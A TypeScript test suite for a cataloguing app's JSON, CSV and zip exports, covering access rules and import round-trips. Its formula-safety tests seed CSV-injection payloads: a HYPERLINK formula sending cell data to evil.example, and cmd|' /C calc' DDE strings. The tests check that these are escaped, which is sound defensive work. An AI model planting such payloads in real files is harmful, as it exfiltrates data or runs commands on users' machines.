// Exports: the collection as Vitrine JSON (which imports back into an identical collection) and as CSV,
// holding only what the caller may see, streamed a page of items at a time.
import { env } from 'cloudflare:test';
import { unzipSync } from 'fflate';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import type { ExportRun } from '@shared/schemas/exports';
import type { Env } from '@worker/env';
import type { Item, ItemPage } from '@shared/schemas/items';
import type { ImportPlanInput, ImportRun } from '@shared/schemas/imports';
import { vitrineHead, type ExportHead, type ExportedItem } from '@shared/import/vitrine';
import type { Property } from '@shared/schemas/properties';
import { readHead } from '@shared/import/formats';
import { finishedImport, itemsOf, runImport, startImport } from '../../support/worker-imports';
import { call, createUser, errorCode } from '../../support/worker-app';
import { addItem, addItems, addProperty, createCollection, getJson, seededPicture, uploadPicture } from '../../support/worker-catalogue';
import { addBorrower, lend, lendableItem, setLoansEnabled } from '../../support/worker-lending';
import { finishedRun } from '../finished-run';

type ExportDocument = ExportHead & { items: ExportedItem[] };

async function library() {
  const owner = await createUser();
  const c = await createCollection(owner.token, { name: 'Ma bibliothèque', visibility: 0 });
  await addProperty(owner.token, c.id, { label: 'Title', key: 'title', type: 'text', isTitle: true, searchable: true, sortable: true });
  await addProperty(owner.token, c.id, { label: 'Authors', key: 'authors', type: 'text', multiple: true });
  await addProperty(owner.token, c.id, { label: 'Year', key: 'year', type: 'number' });
  await addProperty(owner.token, c.id, { label: 'Read', key: 'read', type: 'yesno' });
  await addProperty(owner.token, c.id, { label: 'Rating', key: 'rating', type: 'rating' });
  await addProperty(owner.token, c.id, { label: 'Bought', key: 'bought', type: 'datetime' });
  await addProperty(owner.token, c.id, { label: 'Specs', key: 'specs', type: 'json' });
  await addProperty(owner.token, c.id, { label: 'Notes', key: 'notes', type: 'longtext', visibility: 3 });
  await addItem(owner.token, c.id, {
    values: {
      title: 'Good Omens, "the nice one"',
      authors: ['Terry Pratchett', 'Neil Gaiman'],
      year: 1990,
      read: true,
      rating: 4.5,
      bought: '2024-03-02T10:30:00.000Z',
      specs: { pages: 412, covers: ['hard', 'soft'] },
      notes: 'signed; line one\nline two',
    },
  });
  await addItem(owner.token, c.id, { values: { title: 'Secret diary', year: 2001 }, visibility: 3 });
  await addItems(
    c.id,
    Array.from({ length: 230 }, (_, n) => ({ values: { title: `Book ${n + 1}`, year: 1801 + n } })),
  );
  return { owner, c };
}

async function exported(collectionId: number, format: 'json' | 'csv', token?: string): Promise<Response> {
  return call(`/api/v1/collections/${collectionId}/export?format=${format}`, { token });
}

// Two hundred and thirty items, so that the export takes more than one page.
describe('exports', { timeout: 180_000 }, () => {
  it('JSON: the owner gets everything, in pages; it imports back into an identical collection', async () => {
    const { owner, c } = await library();
    const res = await exported(c.id, 'json', owner.token);
    expect(res.status).toBe(200);
    expect(res.headers.get('content-disposition')).toContain("filename*=UTF-8''Ma%20biblioth%C3%A8que.json");
    const doc = (await res.json()) as ExportDocument;
    expect(doc).toMatchObject({ format: 'vitrine', version: 1, collection: { name: 'Ma bibliothèque', type: 'custom' } });
    expect(doc.properties.map((p) => p.key)).toEqual(['title', 'authors', 'year', 'read', 'rating', 'bought', 'specs', 'notes']);
    // More items than a page: all of them, once each.
    expect(doc.items).toHaveLength(232);
    expect(new Set(doc.items.map((i) => i.id)).size).toBe(232);

    // Into a new collection with the same properties, by the export's own keys.
    const copy = await createCollection(owner.token, { name: 'Copy' });
    // As the import screen plans it: each property made again with the export's settings.
    const plan: ImportPlanInput = {
      format: 'vitrine',
      fields: vitrineHead(doc as unknown as Record<string, unknown>).fields.map((f) => ({
        field: f.key,
        property: f.key,
        create: {
          label: f.label,
          type: f.type,
          multiple: f.multiple,
          title: doc.properties.find((p) => p.key === f.key)!.isTitle,
          settings: f.settings ?? null,
        },
      })),
    };
    const report = await runImport(owner.token, copy.id, JSON.stringify(doc), 'export.json', plan);
    expect(report).toMatchObject({ status: 'done', total: 232, counts: { added: 232, failed: 0 } });
    const valuesIn = async (collectionId: number) => {
      const page = await getJson<ItemPage>(`/api/v1/collections/${collectionId}/items?q=Omens`, owner.token);
      return (await getJson<Item>(`/api/v1/collections/${collectionId}/items/${page.items[0]!.id}`, owner.token)).values;
    };
    expect(await valuesIn(copy.id)).toEqual(await valuesIn(c.id));
    // The same properties: types, roles, settings (search, sort, who sees them), in the same order.
    const propertiesOf = async (collectionId: number) =>
      (await getJson<{ properties: Property[] }>(`/api/v1/collections/${collectionId}/properties`, owner.token)).properties.map(
        ({ id: _id, collectionId: _c, version: _v, ...rest }) => rest,
      );
    expect(await propertiesOf(copy.id)).toEqual(await propertiesOf(c.id));
    const again = (await exported(copy.id, 'json', owner.token).then((r) => r.json())) as ExportDocument;
    const strip = (d: ExportDocument) => d.items.map((i) => i.values);
    expect(strip(again)).toEqual(strip(doc));
  });

  it("an export's settings go only to an empty collection, and a role only where no property has it", async () => {
    const owner = await createUser();
    const doc = {
      format: 'vitrine',
      version: 1,
      exportedAt: '2026-11-24T10:00:00.000Z',
      collection: { name: 'Shelf', description: null, type: 'custom', tags: [] },
      properties: [
        {
          key: 'name',
          label: 'Name',
          type: 'text',
          multiple: false,
          isTitle: true,
          isSubtitle: false,
          isCover: false,
          isReference: false,
          suffix: null,
          description: null,
          sortable: true,
          searchable: true,
        },
        {
          key: 'photo',
          label: 'Photo',
          type: 'image',
          multiple: false,
          isTitle: false,
          isSubtitle: false,
          isCover: true,
          isReference: false,
          suffix: null,
          description: null,
        },
        {
          key: 'price',
          label: 'Price',
          type: 'number',
          multiple: false,
          isTitle: false,
          isSubtitle: false,
          isCover: false,
          isReference: false,
          suffix: '€',
          description: 'Paid',
          visibility: 3,
          filterable: true,
        },
      ],
      items: [
        {
          id: 1,
          quantity: 1,
          values: { name: 'Lamp', price: 12 },
          createdAt: '2026-11-24T10:00:00.000Z',
          updatedAt: '2026-11-24T10:00:00.000Z',
        },
      ],
    };
    const plan = (keys: string[]): ImportPlanInput => ({
      format: 'vitrine',
      fields: vitrineHead(doc)
        .fields.filter((f) => keys.includes(f.key))
        .map((f) => ({
          field: f.key,
          property: f.key,
          create: { label: f.label, type: f.type, multiple: f.multiple, title: f.key === 'name', settings: f.settings ?? null },
        })),
    });
    const run = (collectionId: number, keys: string[]) =>
      runImport(owner.token, collectionId, JSON.stringify(doc), 'shelf.json', plan(keys));
    const props = async (collectionId: number) =>
      (await getJson<{ properties: Property[] }>(`/api/v1/collections/${collectionId}/properties`, owner.token)).properties;

    // A collection that already has a cover: the export's photo comes without the role.
    const covered = await createCollection(owner.token, { name: 'Covered' });
    await addProperty(owner.token, covered.id, { label: 'Picture', key: 'picture', type: 'image', isCover: true });
    await run(covered.id, ['name', 'photo', 'price']);
    const made = await props(covered.id);
    expect(made.find((p) => p.key === 'picture')!.isCover).toBe(true);
    expect(made.find((p) => p.key === 'photo')!.isCover).toBe(false);
    expect(made.find((p) => p.key === 'name')).toMatchObject({ isTitle: true, sortable: true, searchable: true });
    expect(made.find((p) => p.key === 'price')).toMatchObject({ suffix: '€', description: 'Paid', visibility: 3, filterable: true });

    // A collection that holds items already: new properties come plain (nothing to index again).
    const used = await createCollection(owner.token, { name: 'Used' });
    await addProperty(owner.token, used.id, { label: 'Name', key: 'name', type: 'text', isTitle: true });
    await addItem(owner.token, used.id, { values: { name: 'Chair' } });
    await run(used.id, ['price']);
    expect((await props(used.id)).find((p) => p.key === 'price')).toMatchObject({ suffix: null, visibility: 0, filterable: false });
  });

  it('JSON of another version is refused before anything is written', async () => {
    const owner = await createUser();
    const c = await createCollection(owner.token, { name: 'Copy' });
    const future = JSON.stringify({ format: 'vitrine', version: 99, properties: [], items: [] });
    const res = await startImport(owner.token, c.id, future, 'future.json', { format: 'vitrine', fields: [] });
    expect(res.status).toBe(400);
    expect(((await res.json()) as { error: { details: { fields: { reason: string }[] } } }).error.details.fields[0]!.reason).toBe(
      'unknown_version',
    );
  });

  it('CSV: a column per property, several values joined, quotes and line breaks kept', async () => {
    const { owner, c } = await library();
    const res = await exported(c.id, 'csv', owner.token);
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toContain('text/csv');
    const text = await res.text();
    const rows = Papa.parse<string[]>(text.replace(/^\ufeff/, ''), { skipEmptyLines: true }).data;
    expect(rows[0]).toEqual(['Title', 'Authors', 'Year', 'Read', 'Rating', 'Bought', 'Specs', 'Notes']);
    expect(rows).toHaveLength(233);
    expect(rows[1]).toEqual([
      'Good Omens, "the nice one"',
      'Terry Pratchett; Neil Gaiman',
      '1990',
      'true',
      '4.5',
      '2024-03-02T10:30:00.000Z',
      '{"pages":412,"covers":["hard","soft"]}',
      'signed; line one\nline two',
    ]);
  });

  it('a visitor gets what they may see; a private collection is not found; a bad format is refused', async () => {
    const { c } = await library();
    const anonymous = (await (await exported(c.id, 'json')).json()) as ExportDocument;
    expect(anonymous.properties.map((p) => p.key)).not.toContain('notes');
    expect(anonymous.items).toHaveLength(231);
    expect(anonymous.items.some((i) => i.values.title === 'Secret diary')).toBe(false);
    expect(anonymous.items.every((i) => !('notes' in i.values))).toBe(true);
    const stranger = await createUser();
    expect(((await (await exported(c.id, 'json', stranger.token)).json()) as ExportDocument).items).toHaveLength(231);

    const owner = await createUser();
    const hidden = await createCollection(owner.token, { name: 'Private', visibility: 3 });
    expect((await exported(hidden.id, 'json')).status).toBe(404);
    expect((await exported(hidden.id, 'csv', stranger.token)).status).toBe(404);
    expect((await exported(hidden.id, 'json', owner.token)).status).toBe(200);
    expect((await call(`/api/v1/collections/${c.id}/export?format=xml`)).status).toBe(400);
  });

  it("the owner's JSON holds each item's loans with the borrower; nobody else's holds any", async () => {
    await setLoansEnabled(true);
    const { owner, collection, item, itemPath } = await lendableItem({ title: 'Lent book' });
    await addItem(owner.token, collection.id, { values: { title: 'Never lent' } });
    const borrower = await addBorrower(owner.token, { name: 'Ann Reader', email: 'ann.reader@example.test' });
    const res = await lend(owner.token, itemPath, { borrowerId: borrower.id, dueOn: '2026-12-24', notes: 'At the club' });
    expect(res.status, await res.clone().text()).toBe(201);

    const mine = (await (await exported(collection.id, 'json', owner.token)).json()) as ExportDocument;
    const lent = mine.items.find((i) => i.id === item.id)!;
    expect(lent.loans).toEqual([
      expect.objectContaining({
        state: 'lent',
        borrower: { name: 'Ann Reader', email: 'ann.reader@example.test' },
        dueOn: '2026-12-24',
        notes: 'At the club',
        returnedOn: null,
      }),
    ]);
    expect(mine.items.find((i) => i.id !== item.id)!.loans).toEqual([]);

    const visitor = (await (await exported(collection.id, 'json')).json()) as ExportDocument;
    expect(visitor.items).toHaveLength(2);
    expect(visitor.items.every((i) => !('loans' in i))).toBe(true);
    const stranger = await createUser();
    const theirs = (await (await exported(collection.id, 'json', stranger.token)).json()) as ExportDocument;
    expect(theirs.items.every((i) => !('loans' in i))).toBe(true);
  });

  it('demo mode, which refuses imports, offers exports', async () => {
    const { owner, c } = await library();
    const res = await call(`/api/v1/collections/${c.id}/export?format=csv`, { token: owner.token, env: { DEMO_MODE: 'true' } });
    expect(res.status).toBe(200);
    expect(await res.text()).toContain('Good Omens');
  });
});

const HYPERLINK = '=HYPERLINK("https://evil.example/?"&A1,"x")';

/** A public shelf whose texts begin like formulas, a number below zero, and a label that is a formula too. */
async function formulaShelf() {
  const owner = await createUser();
  const c = await createCollection(owner.token, { name: 'Formulas', visibility: 0 });
  await addProperty(owner.token, c.id, { label: 'Title', key: 'title', type: 'text', isTitle: true, sortable: true });
  await addProperty(owner.token, c.id, { label: 'Tags', key: 'tags', type: 'text', multiple: true });
  await addProperty(owner.token, c.id, { label: 'Temp', key: 'temp', type: 'number' });
  await addProperty(owner.token, c.id, { label: 'Code', key: 'code', type: 'text' });
  await addProperty(owner.token, c.id, { label: '=1+1', key: 'formula', type: 'text' });
  await addItem(owner.token, c.id, { values: { title: HYPERLINK, tags: ['=a', 'b'], temp: -3, code: '-3' } });
  await addItem(owner.token, c.id, { values: { title: '+1+2', code: "'=already quoted", formula: "'plain" } });
  await addItem(owner.token, c.id, { values: { title: "-2+3+cmd|' /C calc'!A0", temp: -0.5, formula: '-1e3' } });
  await addItem(owner.token, c.id, { values: { title: "@SUM(1+1)*cmd|' /C calc'!A0", code: 'a;=1+1' } });
  return { owner, c };
}

const csvRows = (text: string) => Papa.parse<string[]>(text.replace(/^\ufeff/, ''), { skipEmptyLines: true }).data;

describe('CSV exports of stored files', () => {
  it('write each file as its address on the instance, never media://', async () => {
    const owner = await createUser();
    const c = await createCollection(owner.token, { name: 'Covers', visibility: 0 });
    await addProperty(owner.token, c.id, { label: 'Title', type: 'text', isTitle: true });
    await addProperty(owner.token, c.id, { label: 'Cover', type: 'image' });
    const cover = await uploadPicture(owner.token, c.id, seededPicture(1));
    await addItem(owner.token, c.id, { values: { title: 'Dune', cover } });
    const rows = csvRows(await (await exported(c.id, 'csv')).text());
    expect(rows[1]).toEqual(['Dune', `https://vitrine.test/media/${cover.slice('media://'.length)}`]);
  });
});

describe('CSV exports are formula-safe', { timeout: 180_000 }, () => {
  it("a text cell beginning with =, +, -, @, tab or CR gets a ' and quotes; numbers stay numbers", async () => {
    const { owner, c } = await formulaShelf();
    // Text is trimmed when saved: cells beginning with a tab or a carriage return are written in the database.
    for (const [title, start] of [
      ['Tab', '\t'],
      ['CR', '\r'],
    ]) {
      const item = await addItem(owner.token, c.id, { values: { title } });
      const titleId = (await env.DB.prepare("SELECT id FROM properties WHERE collection_id = ?1 AND key = 'title'")
        .bind(c.id)
        .first<{ id: number }>())!.id;
      await env.DB.prepare(`UPDATE items SET data = json_set(data, '$."' || ?2 || '"', ?3) WHERE id = ?1`)
        .bind(item.id, String(titleId), `${start}=1+1`)
        .run();
    }
    // A visitor's download of the public collection, and the owner's.
    for (const token of [undefined, owner.token]) {
      const text = await (await exported(c.id, 'csv', token)).text();
      const lines = text.replace(/^\ufeff/, '').split('\r\n');
      expect(lines[0]).toBe(`Title,Tags,Temp,Code,"'=1+1"`);
      expect(lines).toContain(`"'=HYPERLINK(""https://evil.example/?""&A1,""x"")","'=a; b",-3,-3,`);
      const rows = csvRows(text);
      expect(rows.slice(1)).toEqual([
        [`'${HYPERLINK}`, "'=a; b", '-3', '-3', ''],
        ["'+1+2", '', '', "''=already quoted", "'plain"],
        ["'-2+3+cmd|' /C calc'!A0", '', '-0.5', '', "'-1e3"],
        ["'@SUM(1+1)*cmd|' /C calc'!A0", '', '', 'a;=1+1', ''],
        ["'\t=1+1", '', '', '', ''],
        ["'\r=1+1", '', '', '', ''],
      ]);
      // No cell a spreadsheet would evaluate: only plain numbers begin with a minus.
      for (const cell of rows.flat()) if (/^[=+\-@\t\r]/.test(cell)) expect(cell).toMatch(/^-\d+(\.\d+)?$/);
      // A cell holding a separator some spreadsheets split on (;) is quoted, so its =1+1 stays inside it.
      expect(lines.some((line) => line.includes(',"a;=1+1",'))).toBe(true);
    }
  });

  it("imports back into the same values: the import takes off the ' the export added, and only it", async () => {
    const { owner, c } = await formulaShelf();
    const text = await (await exported(c.id, 'csv', owner.token)).text();
    const csv = { delimiter: ',', quote: '"', header: true } as const;
    expect(readHead('csv', text.replace(/^\ufeff/, ''), csv).fields.map((f) => f.label)).toEqual(['Title', 'Tags', 'Temp', 'Code', '=1+1']);
    const copy = await createCollection(owner.token, { name: 'Copy' });
    const plan: ImportPlanInput = {
      format: 'csv',
      csv,
      fields: [
        { field: 'c0', property: 'title', create: { label: 'Title', type: 'text', multiple: false, title: true } },
        { field: 'c1', property: 'tags', split: '; ', create: { label: 'Tags', type: 'text', multiple: true } },
        { field: 'c2', property: 'temp', create: { label: 'Temp', type: 'number', multiple: false } },
        { field: 'c3', property: 'code', create: { label: 'Code', type: 'text', multiple: false } },
        { field: 'c4', property: 'formula', create: { label: '=1+1', type: 'text', multiple: false } },
      ],
    };
    const report = await runImport(owner.token, copy.id, text, 'formulas.csv', plan);
    expect(report).toMatchObject({ status: 'done', counts: { added: 4, failed: 0 } });
    const values = async (collectionId: number) =>
      (await itemsOf(owner.token, collectionId, null)).map((i) => i.values).sort((a, b) => String(a.title).localeCompare(String(b.title)));
    const original = await values(c.id);
    expect(original.map((v) => v.title)).toContain(HYPERLINK);
    expect(await values(copy.id)).toEqual(original);
  });
});

const zipRuns = (collectionId: number) => `/api/v1/collections/${collectionId}/exports`;

const finishedExport = (token: string, collectionId: number, id: number) => finishedRun<ExportRun>(`${zipRuns(collectionId)}/${id}`, token);

/** A shelf with covers: 230 items (two pages of the document), three of them with a picture, one shared. */
async function shelfWithCovers() {
  const owner = await createUser();
  const c = await createCollection(owner.token, { name: 'Covers: "all"' });
  await addProperty(owner.token, c.id, { label: 'Title', key: 'title', type: 'text', isTitle: true, searchable: true });
  await addProperty(owner.token, c.id, { label: 'Cover', key: 'cover', type: 'image', isCover: true });
  await addProperty(owner.token, c.id, { label: 'Gallery', key: 'gallery', type: 'image', multiple: true });
  const [one, two, three] = [
    await uploadPicture(owner.token, c.id, seededPicture(3)),
    await uploadPicture(owner.token, c.id, seededPicture(5, 70_000)),
    await uploadPicture(owner.token, c.id, seededPicture(7)),
  ];
  await addItem(owner.token, c.id, { values: { title: 'Dune', cover: one, gallery: [two, three] } });
  await addItem(owner.token, c.id, { values: { title: 'Hyperion', cover: two } });
  await addItems(
    c.id,
    Array.from({ length: 228 }, (_, n) => ({ values: { title: `Book ${n + 1}` } })),
  );
  return { owner, c, pictures: { [one]: seededPicture(3), [two]: seededPicture(5, 70_000), [three]: seededPicture(7) } };
}

describe('exports with pictures', { timeout: 360_000 }, () => {
  it('are made in the background, download as a zip of the JSON and the pictures, and import back with them', async () => {
    const { owner, c, pictures } = await shelfWithCovers();
    const started = await call(zipRuns(c.id), { method: 'POST', token: owner.token });
    expect(started.status, await started.clone().text()).toBe(202);
    const run = await finishedExport(owner.token, c.id, ((await started.json()) as ExportRun).id);
    expect(run).toMatchObject({ status: 'done', phase: 'done', items: 230, total: 230, pictures: 3, bytes: 76_000 });
    expect(run.file).toBe(`/api/v1/collections/${c.id}/exports/${run.id}/file`);

    const res = await call(run.file!, { token: owner.token });
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('application/zip');
    expect(res.headers.get('content-disposition')).toContain('.zip');
    // unzipSync checks every entry's CRC-32 against the one the steps noted.
    const files = unzipSync(new Uint8Array(await res.arrayBuffer()));
    const names = Object.keys(files);
    expect(names[0]).toBe('Covers_ _all_.json');
    expect(names.slice(1).sort()).toEqual(
      Object.keys(pictures)
        .map((v) => `pictures/${v.split('/').pop()}`)
        .sort(),
    );
    for (const [value, bytes] of Object.entries(pictures)) expect(files[`pictures/${value.split('/').pop()}`]).toEqual(bytes);
    // The document is the JSON export's, word for word but for when it was made.
    const doc = JSON.parse(new TextDecoder().decode(files[names[0]!])) as ExportDocument;
    const plain = (await (await exported(c.id, 'json', owner.token)).json()) as ExportDocument;
    expect({ ...doc, exportedAt: null }).toEqual({ ...plain, exportedAt: null });

    // Imported into a new collection, the zip brings its pictures: the same bytes, in the copy's own media.
    const copy = await createCollection(owner.token, { name: 'Copy' });
    const body = new FormData();
    body.set('file', new File([await (await call(run.file!, { token: owner.token })).arrayBuffer()], 'covers.zip'));
    body.set(
      'plan',
      JSON.stringify({
        format: 'vitrine',
        fields: doc.properties.map((p) => ({
          field: p.key,
          property: p.key,
          create: { label: p.label, type: p.type, multiple: p.multiple, title: p.isTitle },
        })),
      }),
    );
    const imported = await call(`/api/v1/collections/${copy.id}/imports`, { method: 'POST', token: owner.token, body });
    expect(imported.status, await imported.clone().text()).toBe(202);
    expect(await finishedImport(owner.token, copy.id, ((await imported.json()) as ImportRun).id)).toMatchObject({
      status: 'done',
      counts: { added: 230, failed: 0 },
    });
    const dune = async (collectionId: number) => {
      const page = await getJson<ItemPage>(`/api/v1/collections/${collectionId}/items?q=Dune`, owner.token);
      return (await getJson<Item>(`/api/v1/collections/${collectionId}/items/${page.items[0]!.id}`, owner.token)).values as {
        cover: string;
        gallery: string[];
      };
    };
    const [original, copied] = [await dune(c.id), await dune(copy.id)];
    expect(copied.cover).toMatch(new RegExp(`^media://collections/${copy.id}/`));
    expect(copied.gallery).toHaveLength(2);
    const bytesOf = async (value: string) => new Uint8Array(await (await env.MEDIA.get(value.slice('media://'.length)))!.arrayBuffer());
    for (const [a, b] of [[original.cover, copied.cover], ...original.gallery.map((v, i) => [v, copied.gallery[i]!])] as [
      string,
      string,
    ][]) {
      expect(await bytesOf(b)).toEqual(await bytesOf(a));
    }
  });

  it("are the owner's alone, one at a time; an unfinished run has nothing to download; demo mode refuses", async () => {
    const { owner, c } = await shelfWithCovers();
    const stranger = await createUser();
    expect((await call(zipRuns(c.id), { method: 'POST' })).status).toBe(401);
    expect((await call(zipRuns(c.id), { method: 'POST', token: stranger.token })).status).toBe(403);
    expect(await errorCode(await call(zipRuns(c.id), { method: 'POST', token: owner.token, env: { DEMO_MODE: 'true' } }))).toBe(
      'DEMO_MODE',
    );

    const first = (await (await call(zipRuns(c.id), { method: 'POST', token: owner.token })).json()) as ExportRun;
    const second = await call(zipRuns(c.id), { method: 'POST', token: owner.token });
    expect(second.status).toBe(409);
    expect(await errorCode(second)).toBe('EXPORT_RUNNING');
    await finishedExport(owner.token, c.id, first.id);
    // A run still running (as it was) has no file yet.
    await env.DB.prepare("UPDATE collection_exports SET status = 'running' WHERE id = ?1").bind(first.id).run();
    expect((await call(`${zipRuns(c.id)}/${first.id}/file`, { token: owner.token })).status).toBe(404);
    await env.DB.prepare("UPDATE collection_exports SET status = 'done' WHERE id = ?1").bind(first.id).run();
    expect((await call(`${zipRuns(c.id)}/${first.id}/file`, { token: owner.token })).status).toBe(200);
    // Nobody else's: not the stranger's, not anonymous, not from another collection of the owner's.
    expect((await call(`${zipRuns(c.id)}/${first.id}`, { token: stranger.token })).status).toBe(403);
    expect((await call(`${zipRuns(c.id)}/${first.id}/file`, { token: stranger.token })).status).toBe(403);
    expect((await call(`${zipRuns(c.id)}/${first.id}/file`)).status).toBe(401);
    const other = await createCollection(owner.token, { name: 'Other' });
    expect((await call(`${zipRuns(other.id)}/${first.id}/file`, { token: owner.token })).status).toBe(404);
    expect((await call(`${zipRuns(c.id)}/999999`, { token: owner.token })).status).toBe(404);
    // Once it ended, another may start; the list shows the owner's, newest first, and nobody else's.
    const next = (await (await call(zipRuns(c.id), { method: 'POST', token: owner.token })).json()) as ExportRun;
    const listed = await getJson<{ runs: ExportRun[] }>(zipRuns(c.id), owner.token);
    expect(listed.runs.map((r) => r.id)).toEqual([next.id, first.id]);
    expect((await call(zipRuns(c.id), { token: stranger.token })).status).toBe(403);
    expect((await call(zipRuns(c.id))).status).toBe(401);
    expect((await getJson<{ runs: ExportRun[] }>(zipRuns(other.id), owner.token)).runs).toEqual([]);
    await finishedExport(owner.token, c.id, next.id);
  });

  it('end as failed when their collection is deleted meanwhile, so that another may start', async () => {
    const owner = await createUser();
    const doomed = await createCollection(owner.token, { name: 'Doomed' });
    const kept = await createCollection(owner.token, { name: 'Kept' });
    const userId = (await env.DB.prepare('SELECT owner_id FROM collections WHERE id = ?1').bind(doomed.id).first<{ owner_id: number }>())!
      .owner_id;
    // A run whose Workflow has not taken its first step yet.
    const run = (await env.DB.prepare('INSERT INTO collection_exports (collection_id, user_id) VALUES (?1, ?2) RETURNING id')
      .bind(doomed.id, userId)
      .first<{ id: number }>())!;
    expect((await call(zipRuns(kept.id), { method: 'POST', token: owner.token })).status).toBe(409);
    expect((await call(`/api/v1/collections/${doomed.id}`, { method: 'DELETE', token: owner.token })).status).toBe(204);
    const { documentStep } = await import('@worker/features/exports/exports.steps');
    expect(await documentStep(env, run.id)).toBe('stopped');
    expect(await env.DB.prepare('SELECT status FROM collection_exports WHERE id = ?1').bind(run.id).first('status')).toBe('failed');
    expect((await call(zipRuns(kept.id), { method: 'POST', token: owner.token })).status).toBe(202);
  });

  it('end at once when no Workflow could be started for them, so that another may start', async () => {
    const owner = await createUser();
    const c = await createCollection(owner.token, { name: 'Shelf' });
    const down = { create: () => Promise.reject(new Error('Workflows unavailable')) } as unknown as Env['EXPORTS'];
    const refused = await call(zipRuns(c.id), { method: 'POST', token: owner.token, env: { EXPORTS: down } });
    expect(refused.status).toBe(500);
    const runs = await getJson<{ runs: ExportRun[] }>(zipRuns(c.id), owner.token);
    expect(runs.runs.map((r) => r.status)).toEqual(['failed']);
    const next = await call(zipRuns(c.id), { method: 'POST', token: owner.token });
    expect(next.status).toBe(202);
    expect((await finishedExport(owner.token, c.id, ((await next.json()) as ExportRun).id)).status).toBe('done');
  });

  it('are removed with their pieces a day later by the daily clean-up', async () => {
    const { owner, c } = await shelfWithCovers();
    const run = (await (await call(zipRuns(c.id), { method: 'POST', token: owner.token })).json()) as ExportRun;
    await finishedExport(owner.token, c.id, run.id);
    expect((await env.MEDIA.list({ prefix: `exports/${run.id}/` })).objects).toHaveLength(2);
    const { exportsCleanupJob } = await import('@worker/features/maintenance/exports-cleanup.job');
    const budget = { left: 50, take: () => true };
    const context = { now: new Date(), budget, cursor: null, saveCursor: () => {} } as unknown as Parameters<
      typeof exportsCleanupJob.run
    >[1];
    // A fresh one stays.
    expect(await exportsCleanupJob.run(env, context)).toEqual({ exports: 0, pieces: 0, archives: 0 });
    await env.DB.prepare("UPDATE collection_exports SET created_at = strftime('%Y-%m-%dT%H:%M:%fZ', 'now', '-25 hours') WHERE id = ?1")
      .bind(run.id)
      .run();
    expect(await exportsCleanupJob.run(env, context)).toEqual({ exports: 1, pieces: 2, archives: 0 });
    expect((await env.MEDIA.list({ prefix: `exports/${run.id}/` })).objects).toHaveLength(0);
    expect((await call(`${zipRuns(c.id)}/${run.id}`, { token: owner.token })).status).toBe(404);
  });
});
